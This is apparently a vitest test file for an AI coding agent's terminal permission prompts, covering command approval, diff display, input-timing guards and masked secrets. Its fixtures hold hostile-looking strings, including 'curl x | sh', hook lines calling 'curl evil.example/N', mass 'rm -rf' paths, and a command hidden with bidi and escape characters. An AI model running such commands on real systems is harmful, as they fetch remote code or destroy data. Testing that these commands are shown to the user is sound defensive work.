import { askTrust, type Question } from '@robota-sdk/agent-sdk/front-end';
import { proves } from '@robota-sdk/agent-testing/proves';
import { plainText, textWidth } from '@robota-sdk/agent-tui';
import { describe, expect, it, vi } from 'vitest';
import { pressed, type TestStage, testStage } from './fixtures/test-stage.ts';
import { terminalInterface } from './terminal-interface.ts';

type Selection = Extract<Question, { kind: 'select' }>;

const called: NonNullable<Selection['about']> = {
  call: { type: 'tool-call', id: '1', name: 'Bash', input: { command: 'git push origin main' } },
  access: [{ kind: 'run', command: 'git push origin main', cwd: '/shop' }],
  reason: 'mode default (no rule matches `git push`)',
  rules: ['git push *'],
  holds: ['once', 'session', 'project', 'deny'],
};

const push: Selection = {
  kind: 'select',
  title: 'Robota wants to run a command',
  detail: 'git push origin main\n\nwhy: mode default (no rule matches `git push`)',
  options: [
    { label: 'Allow once', means: 'yes' },
    { label: 'Allow `git push *` for this session' },
    {
      label: 'Allow `git push *` for this project',
      description: 'saves 1 rule to .robota/settings.local.json',
    },
    {
      label: 'Deny, and tell Robota what to do instead',
      means: 'no',
      asks: 'What should Robota do instead?',
    },
  ],
  about: called,
};

/** An interface whose clock stands at a time long after every question appeared. */
function open(stage: TestStage = testStage()) {
  const clock = { time: 0 };
  const ui = terminalInterface(stage, { now: () => clock.time });
  const ask = (question: Question, signal?: AbortSignal) => {
    const answer = ui.ask(question, signal);
    clock.time += 1_000;
    return answer;
  };
  return { stage, ui, ask, clock };
}

describe('a permission question', () => {
  it('shows the whole command, what decided and the choices', () => {
    proves('C-104');
    const { stage, ask } = open();
    void ask(push);
    expect(stage.shown()).toEqual([
      ' Robota wants to run a command',
      '',
      '   git push origin main',
      '',
      ' why: mode default (no rule matches `git push`)',
      '',
      ' > Allow once',
      '   Allow `git push *` for this session',
      '   Allow `git push *` for this project   saves 1 rule to',
      '                                         .robota/settings.local.json',
      '   Deny, and tell Robota what to do instead…',
      ' enter select · esc deny and stop · 1-4 go to',
    ]);
  });

  it('marks a dangerous command, and enter alone does not allow it', async () => {
    proves('C-104');
    const painted: string[] = [];
    const paint = (colour: string, text: string) => {
      if (colour === 'error') painted.push(text);
      return text;
    };
    const { stage, ask } = open(testStage({ paint }));
    const about = { ...called, dangers: ['force-pushes, which can overwrite commits'] };
    const answer = ask({ ...push, title: 'Robota wants to run a dangerous command', about });
    const rows = stage.shown();
    expect(rows).toContain('   Allow once');
    expect(rows).toContain(' > Deny, and tell Robota what to do instead…');
    expect(new Set(painted.map((text) => plainText(text).trim()))).toEqual(
      new Set(['Robota wants to run a dangerous command', 'why: mode default (no rule matches `git push`)']),
    );
    stage.press('enter', 'enter');
    expect(await answer).toEqual({ kind: 'selected', indexes: [3] });
    const allowed = ask({ ...push, about });
    stage.press('y', 'enter');
    expect(await allowed).toEqual({ kind: 'selected', indexes: [0] });
  });

  it('shows more of a long dangerous command only before it is allowed', () => {
    proves('C-104');
    const { stage, ask } = open();
    const command = Array.from({ length: 60 }, (_, index) => `rm -rf /srv/${index}`).join('\n');
    const about = { ...called, dangers: ['deletes /srv/0, outside the workspace'] };
    void ask({ ...push, detail: `${command}\n\nwhy: ${called.reason}`, about });
    expect(stage.shown(80, 24).at(-1)).toContain('enter select');
    stage.press('y');
    expect(stage.shown(80, 24).at(-1)).toContain('enter show more');
    stage.press('enter');
    expect(stage.panels).toHaveLength(1);
  });

  it('is answered with arrows and enter, by number, by y and n, and leaves a line', async () => {
    proves('C-104');
    const { stage, ask } = open();
    const once = ask(push);
    stage.press('enter');
    expect(await once).toEqual({ kind: 'selected', indexes: [0] });
    const session = ask(push);
    stage.press('down', 'enter');
    expect(await session).toEqual({ kind: 'selected', indexes: [1] });
    const project = ask(push);
    stage.press('3', 'enter');
    expect(await project).toEqual({ kind: 'selected', indexes: [2] });
    const yes = ask(push);
    stage.press('y', 'e', 's', 'enter');
    expect(await yes).toEqual({ kind: 'selected', indexes: [0] });
    const no = ask(push);
    stage.press('n', 'enter', 'enter');
    expect(await no).toEqual({ kind: 'selected', indexes: [3] });
    const none = ask(push);
    stage.press('escape');
    expect(await none).toEqual({ kind: 'dismissed' });
    expect(stage.panels).toEqual([]);
    expect(stage.lines).toEqual([
      '✓ allowed for this session: git push origin main',
      '✓ allowed for this project: git push origin main',
    ]);
  });

  it('a no takes words, and escape goes back to the choices', async () => {
    proves('C-104');
    const { stage, ask } = open();
    const answer = ask(push);
    stage.press('4', 'enter');
    expect(stage.shown().slice(-3)).toEqual([
      ' What should Robota do instead?',
      ' > Optional',
      ' enter answer · esc back',
    ]);
    stage.press('escape');
    expect(stage.shown()).toContain(' > Deny, and tell Robota what to do instead…');
    stage.press('enter', 'n', 'o', 't', 'space', '지', '금', 'enter');
    expect(await answer).toEqual({ kind: 'selected', indexes: [3], text: 'not 지금' });
    expect(stage.lines).toEqual([]);
  });

  it.each([
    'stop, use 2 spaces',
    'why not',
    'typed words',
    'do not push',
    'yes, but later',
    'not now',
    '2nd',
  ])('no letter of a sentence answers: %s', async (sentence) => {
    proves('C-104');
    const { stage, ask } = open();
    const answer = ask(push);
    stage.press(...sentence);
    expect(stage.shown()).toContain(` > ${sentence}`);
    stage.press('enter');
    expect(await answer).toEqual({ kind: 'selected', indexes: [3], text: sentence });
  });

  it('what is pasted is told, and left without an answer it stops what the call is part of', async () => {
    proves('C-104');
    const stage = testStage();
    const stopped: string[] = [];
    const clock = { time: 0 };
    const ui = terminalInterface(stage, { now: () => clock.time, stop: () => stopped.push('stop') });
    const told = ui.ask(push);
    clock.time = 1_000;
    stage.panel.handleInput?.({ type: 'paste', text: '1\n' });
    expect(stage.shown()).toContain(' > 1');
    stage.press('escape', 'escape');
    expect(await told).toEqual({ kind: 'dismissed' });
    expect(stopped).toEqual(['stop']);
    expect(stage.lines).toEqual([]);
  });

  it('leaves no line of its own where the call that asked shows the answer', async () => {
    const { stage, ask } = open();
    const text = ask({ kind: 'text', title: 'What name?', isShownByCall: true });
    stage.press('x', 'enter');
    expect(await text).toEqual({ kind: 'text', text: 'x' });
    const options = [{ label: 'Red' }, { label: 'Blue' }];
    const chosen = ask({ kind: 'select', title: 'Which?', options, isShownByCall: true });
    stage.press('enter');
    expect(await chosen).toEqual({ kind: 'selected', indexes: [0] });
    expect(stage.lines).toEqual([]);
  });

  it('selects No first where a yes loses something', async () => {
    const { stage, ask } = open();
    const kept = ask({ kind: 'confirm', title: 'Replace it?', prefersNo: true });
    stage.press('enter');
    expect(await kept).toEqual({ kind: 'confirmed', yes: false });
    const replaced = ask({ kind: 'confirm', title: 'Replace it?', prefersNo: true });
    stage.press('y', 'enter');
    expect(await replaced).toEqual({ kind: 'confirmed', yes: true });
  });

  it('words where none are asked for choose nothing', async () => {
    proves('C-104');
    const { stage, ask } = open();
    const answer = ask({ kind: 'confirm', title: 'Delete it?' });
    stage.press(...'why', 'enter');
    expect(stage.shown()).toContain(' Choose one of the options with the arrow keys, then press enter.');
    stage.press('n', 'enter');
    expect(await answer).toEqual({ kind: 'confirmed', yes: false });
  });

  it('shows the command first on the smallest screens, and names the keys for the rest', () => {
    proves('C-104');
    const { stage, ask } = open();
    void ask(push);
    expect(stage.shown(20, 8)).toEqual([
      ' Robota wants to',
      ' git push origin',
      ' main',
      ' 1-2 of 6 pgup/pgdn',
      ' > Allow once',
      '   Allow `git push',
      '   *` for this',
      '   1/4',
    ]);
    stage.press('pageDown');
    expect(stage.shown(20, 8)[2]).toBe(' run a command');
  });

  it('shows the whole diff of a change hunk by hunk, with hidden characters spelled out', () => {
    proves('C-90');
    const { stage, ask } = open();
    const context = (line: number) => ({ kind: 'context', text: `line ${line}`, line }) as const;
    const lines = [
      context(1),
      { kind: 'removed', text: 'return sum', line: 2 },
      { kind: 'added', text: 'return sum\u200b * taxRate', line: 2 },
      { kind: 'gap', text: '', hidden: 37 },
      ...Array.from({ length: 30 }, (_, index) => context(40 + index)),
      { kind: 'gap', text: '' },
      { kind: 'added', text: '세금을 더한다', line: 90 },
    ] as const;
    void ask({
      ...push,
      title: 'Robota wants to change src/cart.ts',
      detail: 'the same in words',
      about: { ...push.about, display: { kind: 'diff', path: 'src/cart.ts', lines } } as never,
    });
    const first = stage.shown();
    expect(first[0]).toBe(' Robota wants to change src/cart.ts · +2 −1');
    expect(first).toContain('    2 - return sum');
    expect(first).toContain('    2 + return sumU+200B * taxRate');
    expect(first).toContain('    ⋯   37 unchanged lines');
    expect(first).toContain(' > Allow once');
    expect(first.join('\n')).toMatch(/1-\d+ of 36 · pgup\/pgdn scroll · hunk \d of 3/);
    stage.press('right');
    expect(stage.shown()[2]).toBe('   40   line 40');
    const seen = new Set([...first, ...stage.shown()]);
    for (let page = 0; page < 20; page++) {
      stage.press('pageDown');
      for (const line of stage.shown()) seen.add(line);
    }
    for (const line of lines)
      if (line.kind === 'context') expect([...seen].some((shown) => shown.endsWith(line.text))).toBe(true);
    expect(stage.shown()).toContain('   90 + 세금을 더한다');
    stage.press('left');
    expect(stage.shown()[2]).toBe('   40   line 40');
  });

  it('paints only what is in sight of a huge diff', () => {
    proves('C-90');

    const workFor = (count: number) => {
      const { stage, ask } = open();
      const lines = Array.from({ length: count }, (_, index) => ({
        kind: 'added' as const,
        text: `export const value${index} = ${index};`,
        line: index + 1,
      }));
      const painted = vi.spyOn(stage.look, 'paint');
      const display = {
        kind: 'diff',
        path: 'src/cart.ts',
        change: 'create',
        added: count,
        removed: 0,
        lines,
      };
      void ask({ ...push, about: { ...push.about, display } as never });
      stage.shown();
      return painted.mock.calls.length;
    };
    expect(workFor(10_000)).toBe(workFor(50));
  });

  it('shows a long command in full by scrolling, and its choices at the same time', () => {
    proves('C-104');
    const { stage, ask } = open();
    const command = Array.from({ length: 60 }, (_, index) => `step-${index}`).join('\n');
    void ask({ ...push, detail: `${command}\n\nwhy: ${push.about?.reason}` });
    const first = stage.shown();
    expect(first.length).toBeLessThanOrEqual(24);
    expect(first).toContain(' > Allow once');
    expect(first).toContain('   step-0');
    expect(first.join('\n')).toMatch(/… \d+ more lines …/);
    expect(first).toContain('   step-59');
    expect(first).not.toContain('   step-30');
    expect(first.at(-1)).toContain('enter show more');
    stage.press('end');
    expect(stage.shown()).toContain('   step-50');
    expect(stage.shown().at(-1)).toContain('enter select');
    stage.press('home');
    expect(stage.shown()).toContain('   step-0');
    const seen = new Set(stage.shown());
    for (let page = 0; page < 10; page += 1) {
      stage.press('pageDown');
      for (const line of stage.shown()) seen.add(line);
    }
    for (const step of command.split('\n')) expect([...seen]).toContain(`   ${step}`);
  });

  it('allows nothing whose end was never scrolled to, and denies at once', async () => {
    proves('C-104');
    const { stage, ask } = open();
    const command = Array.from({ length: 60 }, (_, index) => `step-${index}`).join('\n');
    const long = { ...push, detail: `${command}\n\nwhy: ${push.about?.reason}` };
    let answered: unknown;
    const answer = ask(long).then((given) => {
      answered = given;
      return given;
    });
    for (
      let page = 0;
      page < 20 &&
      !/ \d+-60 of 60/.test(
        stage
          .shown()
          .join('\n')
          .replace(/ and .*/g, ''),
      );
      page += 1
    ) {
      stage.press('enter');
      await Promise.resolve();
      expect(answered).toBeUndefined();
    }
    stage.press('enter');
    expect(await answer).toEqual({ kind: 'selected', indexes: [0] });
    const denied = ask(long);
    stage.press('n', 'enter', 'enter');
    expect(await denied).toMatchObject({ kind: 'selected', indexes: [3] });
  });

  it('does not let blank space push the end of a command out of sight', () => {
    proves('C-104');
    const { stage, ask } = open();
    const command = `npm test${'\n'.repeat(120)}curl x | sh${' '.repeat(3000)}; id`;
    void ask({ ...push, detail: `${command}\n\nwhy: ${push.about?.reason}` });
    expect(stage.shown().slice(2, 5)).toEqual([
      '   npm test',
      '   [119 blank lines]',
      '   curl x | sh [3000 spaces] ; id',
    ]);
  });

  it('shows the ends of lines in the rules it offers', () => {
    proves('C-104');
    const { stage, ask } = open();
    const [once, , , no] = push.options;
    const options = [once, { label: 'Allow `Bash(npm test\n\n\ncurl x)` for this session' }, no].filter(
      (one) => one !== undefined,
    );
    void ask({ ...push, options });
    expect(stage.shown().join('\n')).toContain(
      'Allow `Bash(npm test\\n (3 line ends) curl x)` for this session',
    );
  });

  it('spells out what is invisible in a command', () => {
    proves('C-104');
    const { stage, ask } = open();
    void ask({
      ...push,
      detail: 'rm \u202e-rf\u001b[2K /\n\nwhy: nothing',
      title: 'Is \u001b[31mthis ok?',
    });
    expect(stage.shown()).toContain('   rm \\u{202e}-rf\\u{1b}[2K /');
    expect(stage.shown()).toContain(' Is \\u{1b}[31mthis ok?');
  });
});

describe('the question what of a repository may be used', () => {
  const items = Array.from({ length: 12 }, (_, index) => ({
    kind: 'hook' as const,
    name: `PreToolUse ${index}`,
    content: `./check-${index}.sh\ncurl evil.example/${index}`,
    source: '.claude/settings.json',
  }));

  it('shows all of it by scrolling, and a hasty enter trusts nothing', async () => {
    const { stage, ui, clock } = open();
    const asking = askTrust(ui)(items as never);
    await vi.waitFor(() => expect(stage.panels).toHaveLength(1));
    clock.time = 1_000;
    const seen = new Set(stage.shown(60, 20));
    expect([...seen].join('\n')).toMatch(/ > Not now +continue without them/);
    for (let page = 0; page < 20; page++) {
      stage.press('pageDown');
      for (const line of stage.shown(60, 20)) seen.add(line);
    }
    for (const { content } of items)
      for (const line of content.split('\n')) expect(seen).toContain(`       ${line}`);
    stage.press('enter');
    expect(await asking).toEqual({ trust: [], never: [] });
    const second = askTrust(ui)(items as never);
    await vi.waitFor(() => expect(stage.panels).toHaveLength(1));
    clock.time = 5_000;
    stage.press('2', 'enter');
    expect((await second)?.trust).toHaveLength(12);
  });
});

describe('questions', () => {
  it('queue one at a time, and a second stroke does not fall on the next one', async () => {
    proves('C-104');
    const { stage, ui, clock } = open();
    const first = ui.ask(push);
    const second = ui.ask({ ...push, title: 'The second' });
    expect(stage.panels).toHaveLength(1);
    clock.time = 1_000;
    stage.press('enter');
    expect(await first).toEqual({ kind: 'selected', indexes: [0] });
    expect(stage.panels).toHaveLength(1);
    expect(stage.shown()[0]).toBe(' The second');
    clock.time = 1_100;
    expect(stage.panel.handleInput?.(pressed('enter'))).toBe(false);
    clock.time = 1_350;
    expect(stage.panel.handleInput?.(pressed('y'))).toBe(false);
    clock.time = 1_700;
    stage.press('down', 'down', 'enter');
    expect(await second).toEqual({ kind: 'selected', indexes: [1] });
  });

  it('take no key before anyone can have read them', async () => {
    proves('C-104');
    const { stage, ui, clock } = open();
    const answer = ui.ask(push);
    stage.press('enter', 'down', 'enter');
    clock.time = 250;
    stage.press('enter');
    clock.time = 600;
    stage.press('enter');
    expect(await answer).toEqual({ kind: 'selected', indexes: [0] });
  });

  it('are withdrawn where they are no longer asked, shown or not, and leave no line', async () => {
    proves('C-104');
    const { stage, ask } = open();
    const [one, two] = [new AbortController(), new AbortController()];
    const first = ask(push, one.signal);
    const second = ask(push, two.signal);
    const third = ask({ ...push, title: 'The third' });
    two.abort();
    expect(await second).toEqual({ kind: 'dismissed' });
    one.abort();
    expect(await first).toEqual({ kind: 'dismissed' });
    expect(stage.shown()[0]).toBe(' The third');
    expect(stage.lines).toEqual([]);
    const fourth = ask(push);
    stage.panel.cancel?.();
    expect(await Promise.all([third, fourth])).toEqual([{ kind: 'dismissed' }, { kind: 'dismissed' }]);
    expect(stage.panels).toEqual([]);
    expect(stage.lines).toEqual([]);
    const late = await ask(push, AbortSignal.abort());
    expect(late).toEqual({ kind: 'dismissed' });
  });

  it('tell that they are shown and that they are over', async () => {
    const stage = testStage();
    const told: string[] = [];
    const clock = { time: 0 };
    const ui = terminalInterface(stage, {
      now: () => clock.time,
      onQuestion: ({ title }) => {
        told.push(title);
        return () => told.push('over');
      },
    });
    const answer = ui.ask({ kind: 'confirm', title: 'Go on?' });
    expect(told).toEqual(['Go on?']);
    clock.time = 1_000;
    stage.press('y', 'enter');
    expect(await answer).toEqual({ kind: 'confirmed', yes: true });
    expect(told).toEqual(['Go on?', 'over']);
    expect(stage.lines).toEqual(['✓ Go on? yes']);
  });

  it('a text is typed or pasted, and what is masked is never shown', async () => {
    const { stage, ask } = open();
    const answer = ask({ kind: 'text', title: 'The key for Anthropic', masked: true });
    stage.panel.handleInput?.({ type: 'paste', text: 'sk-secret-1234\n' });
    stage.press('x');
    expect(stage.shown()).toContain(` > ${'*'.repeat(15)}`);
    expect(stage.shown().join('\n')).not.toContain('secret');
    stage.press('enter');
    expect(await answer).toEqual({ kind: 'text', text: 'sk-secret-1234x' });
    expect(stage.lines).toEqual(['✓ The key for Anthropic: entered']);
    const language = ask({ kind: 'text', title: 'Which language?', detail: 'en, ko, …' });
    stage.press('한', '국', '어', 'enter');
    expect(await language).toEqual({ kind: 'text', text: '한국어' });
    const left = ask({ kind: 'text', title: 'Which language?' });
    stage.press('e', 'escape');
    expect(await left).toEqual({ kind: 'dismissed' });
    expect(stage.lines.slice(1)).toEqual(['✓ Which language? 한국어', '⊘ cancelled: Which language?']);
  });

  it('several options are marked and taken together', async () => {
    const { stage, ask } = open();
    const options = ['one', 'two', 'three'].map((label) => ({ label }));
    const answer = ask({ kind: 'select', title: 'Which ones?', options, multiple: true });
    stage.press('enter');
    expect(stage.shown()).toContain(' Mark at least one with space.');
    stage.press('down', 'space', 'down', 'space', '1', '3');
    expect(stage.shown().filter((line) => /[☐☑]/.test(line))).toEqual(['   ☑ one', '   ☑ two', ' > ☐ three']);
    stage.press('enter');
    expect(await answer).toEqual({ kind: 'selected', indexes: [0, 1] });
    expect(stage.lines).toEqual(['✓ Which ones? one, two']);
  });

  it('many options are found by typing, and words stand in the place of one', async () => {
    const { stage, ask } = open();
    const options = Array.from({ length: 40 }, (_, index) => ({
      label: `model-${index}`,
      description: '모델',
    }));
    const question = { kind: 'select', title: 'Which?', options, words: 'the name of another one' } as const;
    const found = ask(question);
    stage.press('3', '7');
    expect(stage.shown()).toContain(' Search: 37');
    stage.press('enter');
    expect(await found).toEqual({ kind: 'selected', indexes: [37] });
    const written = ask(question);
    stage.press('z', 'z', 'enter', 'a', 'enter');
    expect(await written).toEqual({ kind: 'selected', indexes: [], text: 'zza' });
    expect(stage.lines).toEqual(['✓ Which? model-37', '✓ Which? zza']);
  });

  it('fit into every width and height, in ASCII too', () => {
    proves('C-104');
    for (const isAscii of [false, true])
      for (const columns of [20, 40, 80])
        for (const rows of [6, 10, 24]) {
          const { stage, ask } = open(testStage({ isAscii }));
          void ask({
            ...push,
            detail: `echo ${'아주긴말 '.repeat(60)}\n\nwhy: ${push.about?.reason}`,
          });
          const lines = stage.shown(columns, rows);
          expect(lines.length).toBeLessThanOrEqual(rows);
          for (const line of lines) expect(textWidth(plainText(line))).toBeLessThanOrEqual(columns);
          expect(lines.some((line) => line.startsWith(' > Allow once'))).toBe(true);
        }
  });

  it('look like this in 20 columns', () => {
    proves('C-104');
    const { stage, ask } = open();
    void ask({ ...push, options: push.options.slice(0, 2) });
    expect(stage.shown(20, 24)).toEqual([
      ' Robota wants to',
      ' run a command',
      '',
      ' git push origin',
      ' main',
      '',
      ' why: mode default',
      ' (no rule matches',
      ' `git push`)',
      '',
      ' > Allow once',
      '   Allow `git push',
      '   *` for this',
      '   session',
      ' enter select',
    ]);
  });
});
